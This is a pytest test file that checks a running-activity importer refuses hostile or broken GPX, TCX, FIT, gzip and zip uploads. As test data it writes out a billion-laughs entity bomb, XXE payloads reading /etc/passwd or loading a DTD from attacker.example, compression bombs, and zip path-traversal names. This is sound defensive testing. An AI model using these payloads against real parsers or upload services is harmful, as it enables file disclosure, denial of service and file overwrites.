"""Hostile and broken uploads: each is refused with a reason, and nothing raises."""

import gzip
import io
import struct
import zipfile
import zlib
from datetime import UTC, datetime

import gpxpy.parser
import pytest

from runlog.importers import parse_gpx, parse_tcx, parse_upload, safety, sniff
from tests import importer_files as files

BILLION_LAUGHS = """<!DOCTYPE gpx [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
"""
EXTERNAL_ENTITY = '<!DOCTYPE gpx [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
EXTERNAL_DTD = '<!DOCTYPE gpx SYSTEM "http://attacker.example/evil.dtd">\n'


def one(name: str, data: bytes):
    (result,) = parse_upload(name, data)
    return result


def refused(name: str, data: bytes) -> str:
    result = one(name, data)
    assert result.status == "refused", result
    assert not result.activities
    return result.refused


# --- XML -----------------------------------------------------------------------------------


@pytest.mark.parametrize("doctype", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_xml_bombs_and_external_entities_are_refused_in_gpx(doctype):
    text = files.gpx_text(files.route(10), doctype=doctype, name="&lol9;")
    if doctype is EXTERNAL_ENTITY:
        text = text.replace("&lol9;", "&secret;")
    reason = refused("run.gpx", text.encode())
    assert "DTD or entities" in reason


@pytest.mark.parametrize("doctype", [BILLION_LAUGHS, EXTERNAL_ENTITY])
def test_xml_bombs_and_external_entities_are_refused_in_tcx(doctype):
    text = files.tcx_text(files.tcx_activity(files.route(10)), doctype=doctype)
    assert "DTD or entities" in refused("run.tcx", text.encode())


def test_a_bomb_after_a_long_prolog_is_still_caught():
    padding = "<!-- " + "x" * 200_000 + " -->\n"
    text = files.gpx_text(files.route(10), doctype=padding + BILLION_LAUGHS, name="&lol9;")
    assert "DTD or entities" in refused("run.gpx", text.encode())


def test_gpxpys_own_parser_never_sees_the_file(monkeypatch):
    """gpxpy parses with the standard library; the importer hands it a defused tree."""

    def forbidden(*args, **kwargs):
        raise AssertionError("gpxpy's XML parser was used")

    monkeypatch.setattr(gpxpy.parser.mod_etree, "XML", forbidden)
    monkeypatch.setattr(gpxpy.parser.GPXParser, "parse", forbidden)
    (run,) = parse_gpx(files.gpx_bytes(files.route(100)))
    assert run.distance_m > 0


def test_an_xml_file_over_the_size_cap_is_refused(monkeypatch):
    monkeypatch.setattr(safety, "MAX_XML_BYTES", 10_000)
    data = files.gpx_bytes(files.route(200))
    assert len(data) > 10_000
    assert "larger than" in refused("run.gpx", data)
    with pytest.raises(safety.ImportRefused):
        parse_tcx(files.tcx_bytes(files.route(200)))


def test_xml_that_is_neither_gpx_nor_tcx_is_refused():
    reason = refused("feed.xml", b'<?xml version="1.0"?><rss><channel/></rss>')
    assert "neither GPX nor TCX" in reason


# --- Names that lie ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("run.gpx", files.fit_bytes(files.route(20)), "named as GPX but holds a FIT file"),
        ("run.gpx", b"\x89PNG\r\n\x1a\n" + bytes(100), "named as GPX but holds a PNG image"),
        ("run.fit", files.gpx_bytes(files.route(20)), "named as a FIT file but holds GPX"),
        ("run.tcx", files.gpx_bytes(files.route(20)), "named as TCX but holds GPX"),
        ("run.gpx.gz", files.gpx_bytes(files.route(20)), "named as gzip data but holds GPX"),
        ("run.gpx.gz", files.gz(files.tcx_bytes(files.route(20))), "as GPX but holds TCX"),
        ("export.zip", files.gz(b"hello"), "named as a zip archive but holds gzip data"),
        ("run.gpx", files.zip_bytes({"a.gpx": b"<gpx/>"}), "holds a zip archive"),
    ],
)
def test_an_extension_that_lies_about_the_content_is_refused(name, data, words):
    assert words in refused(name, data)


@pytest.mark.parametrize("name", ["run.xml", "run", "Run from my watch.txt.bin"])
def test_a_name_without_a_known_extension_is_read_by_content(name):
    assert one(name, files.gpx_bytes(files.route(20))).status == "imported"


def test_content_that_is_no_activity_file_is_refused():
    assert "Not a GPX, TCX or FIT file" in refused("notes.txt", b"just some text")
    assert "Not a GPX, TCX or FIT file" in refused("empty", b"")


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (files.fit_bytes(files.route(5)), "fit"),
        (files.gz(b"x"), "gzip"),
        (files.zip_bytes({"a": b"b"}), "zip"),
        (files.gpx_bytes(files.route(5)), "gpx"),
        (b"\xef\xbb\xbf  <?xml version='1.0'?><!-- hi --><gpx:gpx xmlns:gpx='x'/>", "gpx"),
        (files.tcx_bytes(files.route(5)), "tcx"),
        (b"<html/>", "xml"),
        (b"GIF89a", ""),
    ],
)
def test_the_format_is_sniffed_from_the_bytes(data, kind):
    assert sniff(data) == kind


# --- gzip ----------------------------------------------------------------------------------


def test_gzipped_files_are_imported_with_the_hash_of_their_content():
    data = files.gpx_bytes(files.route(100))
    plain, zipped = one("run.gpx", data), one("run.gpx.gz", files.gz(data))
    assert zipped.status == "imported"
    assert zipped.content_sha256 == plain.content_sha256
    assert zipped.data == files.gz(data)  # kept as uploaded


def test_a_gzip_bomb_is_refused_by_size(monkeypatch):
    monkeypatch.setattr(safety, "MAX_GZIP_BYTES", 1_000_000)
    bomb = files.gz(b"<" + b" " * 2_000_000)
    assert "expands to more than" in refused("run.gpx.gz", bomb)


def test_a_gzip_bomb_is_refused_by_ratio():
    bomb = files.gz(b"<gpx>" + b" " * 3_000_000 + b"</gpx>")
    assert "100:1" in refused("run.gpx.gz", bomb)


def test_gzip_is_inflated_as_a_bounded_stream(monkeypatch):
    def unbounded(*args, **kwargs):
        raise AssertionError("gzip.decompress inflates without a limit")

    monkeypatch.setattr(gzip, "decompress", unbounded)
    monkeypatch.setattr(zlib, "decompress", unbounded)
    assert one("run.gpx.gz", files.gz(files.gpx_bytes(files.route(20)))).status == "imported"


def test_a_truncated_gzip_is_refused():
    data = files.gz(files.gpx_bytes(files.route(100)))
    assert "gzip data is damaged or cut short" in refused("run.gpx.gz", data[:-20])


# --- zip -----------------------------------------------------------------------------------


def test_a_zip_bomb_is_refused_by_compression_ratio():
    bomb = files.zip_bytes({"activities/1.gpx": bytes(20_000_000)})
    reason = refused("export.zip", bomb)
    assert "100:1" in reason and "whole zip is refused" in reason


def test_a_zip_whose_headers_claim_a_huge_entry_is_refused_before_reading():
    data = bytearray(files.zip_bytes({"activities/1.gpx": files.gpx_bytes(files.route(20))}))
    central = data.index(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 0xFFFF_0000)  # uncompressed size: 4 GB
    assert "100:1" in refused("export.zip", bytes(data))


def test_a_zip_bomb_is_refused_by_total_size(monkeypatch):
    monkeypatch.setattr(safety, "MAX_ZIP_TOTAL_BYTES", 100_000)
    members = {
        f"activities/{i}.gpx": files.gpx_bytes(files.route(300, start=files.START.replace(day=i)))
        for i in range(1, 6)
    }
    reason = refused("export.zip", files.zip_bytes(members))
    assert "expand to" in reason and "zip bomb" in reason


def test_an_entry_over_the_per_file_cap_is_refused_alone(monkeypatch):
    monkeypatch.setattr(safety, "MAX_ZIP_MEMBER_BYTES", 30_000)
    members = {
        "activities/small.gpx": files.gpx_bytes(files.route(20)),
        "activities/big.gpx": files.gpx_bytes(files.route(400)),
    }
    results = {r.name: r for r in parse_upload("export.zip", files.zip_bytes(members))}
    assert results["export.zip/activities/small.gpx"].status == "imported"
    assert "accepted per file" in results["export.zip/activities/big.gpx"].refused


def test_a_zip_with_too_many_entries_is_refused(monkeypatch):
    monkeypatch.setattr(safety, "MAX_ZIP_MEMBERS", 5)
    members = {f"media/{i}.jpg": b"\xff\xd8\xff" for i in range(6)}
    assert "entries, more than the 5 accepted" in refused("export.zip", files.zip_bytes(members))


@pytest.mark.parametrize(
    "member", ["../../etc/cron.d/evil.gpx", "/etc/passwd", "activities/../../x.gpx", "C:\\x.gpx"]
)
def test_a_zip_with_path_traversal_is_refused(member):
    data = files.zip_bytes({"activities.csv": b"Activity ID\n", member: b"<gpx/>"})
    assert "unsafe path" in refused("export.zip", data)


def test_a_damaged_zip_is_refused():
    data = files.zip_bytes({"a.gpx": files.gpx_bytes(files.route(20))})
    assert "zip file is damaged" in refused("export.zip", data[: len(data) // 2])


def test_a_zip_of_plain_files_over_the_activity_cap_is_refused(monkeypatch):
    monkeypatch.setattr(safety, "MAX_ACTIVITIES_PER_UPLOAD", 3)
    members = {f"{i}.gpx": files.gpx_bytes(files.route(10)) for i in range(4)}
    assert "4 activities to import" in refused("runs.zip", files.zip_bytes(members))


def test_a_stored_zip_entry_with_a_bad_crc_refuses_that_file():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("a.gpx", files.gpx_bytes(files.route(20)))
    data = bytearray(buffer.getvalue())
    data[200] ^= 0xFF  # inside the stored GPX: its CRC no longer matches
    assert "damaged in the zip" in refused("runs.zip", bytes(data))


# --- Refusals surface as results, never exceptions ----------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("run.gpx", files.gpx_bytes([]), "no track points"),
        (
            "run.gpx",
            files.gpx_bytes(files.route(10, start=datetime(2099, 1, 1, tzinfo=UTC))),
            "future",
        ),
        ("run.fit", files.fit_bytes(files.route(50))[:300], "cut short"),
        ("run.fit", b"\x0e\x10\x00\x00\x00\x00\x00\x00.FIT", "not a FIT file"),
        ("run.tcx", b"<TrainingCenterDatabase><Activities>", "not well-formed"),
    ],
)
def test_every_refusal_comes_back_as_a_result(name, data, words):
    assert words in refused(name, data)


def test_random_bytes_never_raise():
    import random

    rng = random.Random(11)
    seeds = [
        files.fit_bytes(files.route(30)),
        files.gpx_bytes(files.route(30)),
        files.zip_bytes({"activities.csv": b"Activity ID,Filename\n1,activities/1.gpx\n"}),
    ]
    for seed in seeds:
        for _ in range(30):
            data = bytearray(seed)
            for _ in range(rng.randint(1, 20)):
                data[rng.randrange(len(data))] = rng.randrange(256)
            for result in parse_upload("upload", bytes(data)):
                assert result.status in ("imported", "skipped", "refused")
